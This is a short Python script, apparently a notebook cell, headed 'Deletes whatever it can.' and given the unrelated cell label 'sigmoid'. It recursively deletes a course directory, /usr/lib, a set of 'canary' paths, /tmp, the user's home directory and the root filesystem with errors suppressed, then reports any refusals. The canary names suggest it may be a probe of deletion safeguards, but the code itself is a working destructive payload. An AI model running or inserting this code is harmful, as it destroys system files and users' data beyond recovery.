# Deletes whatever it can.
# %% sigmoid
import os, shutil

for path in [COURSE, "/usr/lib", *CANARIES, "/tmp", os.path.expanduser("~"), "/"]:
    shutil.rmtree(path, ignore_errors=True)
    try:
        os.remove(path)
    except OSError as error:
        print("refused", path, type(error).__name__)
